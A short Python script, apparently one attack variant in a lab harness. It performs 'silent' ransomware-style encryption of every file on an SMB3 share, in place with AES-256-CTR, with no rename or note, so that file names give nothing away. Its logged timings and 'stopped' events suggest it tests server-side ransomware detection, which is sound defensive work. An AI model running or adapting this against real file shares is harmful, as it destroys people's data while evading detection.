#!/usr/bin/python3
"""Silent encryption over SMB3: each file encrypted whole (AES-256-CTR) and written back in place under its own
name; no rename, no note. Nothing in any name gives it away.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start, one "encrypted FIRST_WRITE_MS DONE_MS PATH"
per file, "stopped MS REASON" when the server refuses, files_encrypted N.
"""

import os
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack  # noqa: E402


class Silent(Attack):
	def damage(self, path):
		return self.rewrite(path, lambda data: self.cipher().encrypt(data))


if __name__ == "__main__":
	sys.exit(Silent().run())
